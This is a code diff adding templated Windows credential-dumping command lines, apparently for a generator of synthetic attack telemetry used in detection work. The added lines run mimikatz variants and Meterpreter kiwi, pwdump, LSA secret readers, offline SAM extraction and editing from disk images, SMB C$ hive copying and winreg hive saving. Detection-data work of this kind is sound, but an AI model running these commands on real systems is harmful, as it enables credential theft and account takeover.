@@ -169,5 +169,32 @@ operator-ps powershell: & ‹dir›\«BackupOperatorToolkit.exe DUMP¦BackupOper
 operator-beacon text: execute-assembly ‹ldir›/«BackupOperatorToDA¦BackupOperatorToolkit¦RegSave¦regdump».exe -t \\‹server› -o \\‹ip›\share\
 operator-regsave cmd: ‹dir›\«regdump¦RegSave».exe «SAM SYSTEM SECURITY¦HKLM\SAM ‹file›¦-o ‹dir›»
 operator-python bash: «python3 ¦»backup_operators.py ‹user›:'‹pass›'@‹ip› -«dump SAM¦o ‹ldir›»
+katz-others-cmd cmd: cmd /c ‹dir›\«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe "lsadump::sam" exit > ‹file›
+katz-others-ps powershell: «.\¦& ‹dir›\»«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe «--Command lsadump::sam¦"lsadump::sam" "exit"»
+katz-others-psexec cmd: psexec \\‹server› -s -c «BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe "lsadump::sam" exit
+katz-others-execute text: execute-assembly ‹ldir›/«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe lsadump::sam
+katz-dll-ps powershell: rundll32 ‹dir›\«mimilib¦powerkatz¦mimi¦m64».dll,main lsadump::sam exit
+katz-dll-cmd cmd: cmd /c rundll32.exe ‹dir›\«powerkatz¦mimilib».dll,main "lsadump::«sam¦lsa /patch»"
+kiwi-cmd-plain text: kiwi_cmd "lsadump::«sam¦lsa /patch»"
+kiwi-cmd-rc bash: echo "load kiwi; kiwi_cmd lsadump::sam; lsa_dump_sam" > ‹name›.rc; msfconsole -r ‹name›.rc
+kiwi-cmd-log text: [*] ‹ip› - meterpreter session ‹n› ran «kiwi_cmd lsadump::sam¦lsa_dump_sam¦lsa_dump_secrets»
+pwdump-eight cmd: ‹dir›\«pwdump8¦pwdump3e¦pwdump4».exe > ‹file›
+pwdump-eight-ps powershell: & ‹dir›\«pwdump8¦pwdump3e¦PwDump7».exe | Out-File ‹file›
+pwdump-eight-psexec cmd: psexec \\‹server› -s -c «pwdump8¦pwdump3e».exe
+lsasecrets-copied cmd +T1003.004: copy \\‹server›\‹project›\«LsaSecretReader¦LSASecretsDump64¦LSASecretsView».exe ‹dir› & ‹dir›\«LsaSecretReader¦LSASecretsDump64¦LSASecretsView».exe
+image-cat bash: «ntfscat¦sudo ntfscat» -f /dev/«sda2¦sdb1¦nbd0p2» Windows/System32/config/«SAM¦SYSTEM» > ‹lfile›
+image-icat bash: sudo icat «-f ntfs ¦-o 2048 »‹lfile› ‹pid›-128-1 > ‹ldir›/SAM
+image-guest bash: «guestfish --ro -a ‹name›.qcow2 -i download¦virt-copy-out -a ‹name›.qcow2¦virt-cat -a ‹name›.qcow2» /Windows/System32/config/SAM «‹lfile›¦> ‹lfile›»
+image-mount bash: «guestmount -a ‹name›.vhdx -i --ro¦ntfs-3g -o ro /dev/nbd0p2¦mount -o ro,loop ‹name›.img» /mnt/‹word› && cp /mnt/‹word›/Windows/System32/config/SAM ‹ldir›
+image-tool-shell bash: bash -c "«ntfscat¦icat¦guestfish¦virt-cat¦ntfscp» ‹lfile› Windows/System32/config/SAM > ‹name›"
+offline-edit bash: «samusrgrp¦sampasswd¦samunlock¦reged» -«L¦l¦r -u 0x1f4¦x» /mnt/‹word›/Windows/System32/config/SAM
+offline-edit-sudo bash: sudo «sampasswd¦samusrgrp¦samunlock» «-l¦-r -a» SAM
+offline-parse bash: «rip.pl¦regripper¦rip» -r ‹ldir›/SAM -p samparse > ‹lfile›
+offline-parse-cmd cmd: ‹dir›\rip.exe -r ‹dir›\SAM -p samparse
+offline-parse-hivex bash: «hivexsh¦hivexml¦hivexregedit --export» ‹ldir›/SAM«¦ 'SAM\Domains\Account\Users'»
+smb-fetch bash: «smbget¦smbmap» -u ‹user› -p '‹pass›' «smb://‹ip›/C$/Windows/System32/config/RegBack/SAM¦-H ‹ip› --download 'C$\Windows\repair\sam'»
+smb-fetch-mount bash: mount -t cifs //‹ip›/C$ /mnt -o username=‹user›,password=‹pass› && cp /mnt/Windows/System32/config/RegBack/SAM ‹ldir›
+winreg-save cmd: «python¦py» ‹dir›\‹name›.py && «python¦py» -c "import winreg as w; w.SaveKey(w.OpenKey(w.HKEY_LOCAL_MACHINE, 'SAM'), 'C:/‹name›')"
+winreg-enum cmd: «python¦py» -c "import winreg; print(winreg.QueryInfoKey(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SAM\SAM\Domains\Account\Users')))"
 """
 )
